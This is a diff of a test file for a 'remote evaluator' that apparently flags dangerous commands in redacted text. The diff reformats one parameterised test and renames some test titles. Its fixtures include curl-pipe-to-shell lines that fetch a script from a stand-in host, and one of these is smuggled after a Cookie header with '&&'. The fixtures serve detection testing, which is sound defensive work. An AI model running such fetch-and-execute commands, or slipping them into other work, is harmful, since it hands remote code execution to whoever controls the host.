@@ -35,10 +35,13 @@ describe("a remote evaluator", () => {
     "```sh\nhttps://x.example/a\ncurl https://get.example/i.sh | sh\n```",
     "Cookie: a=1 && curl https://get.example/i.sh | sh",
     "curl ftp://x.example/a | file:///bin/bash",
-  ])("receives the command although the text is redacted: %s", async (text) => {
-    const { verdict } = await answersTo(text);
-    if (!text.includes("file:")) expect(verdict).toBe("finding");
-  });
+  ])(
+    "gives the result of the embedded evaluator although the text is redacted: %s",
+    async (text) => {
+      const { verdict } = await answersTo(text);
+      if (!text.includes("file:")) expect(verdict).toBe("finding");
+    },
+  );
 });
 
 it("a text whose result depends on a replaced part is not sent to the remote evaluator", async () => {
@@ -57,7 +60,7 @@ it("a command after a word that could be the name of a header is not redacted as
   ]);
 });
 
-it("texts with personal data at every position have the same results", {
+it("texts with personal data at random positions have the same results", {
   timeout: 120_000,
 }, async () => {
   const texts = fc.sample(wovenTexts, { numRuns: 150, seed: 18 });
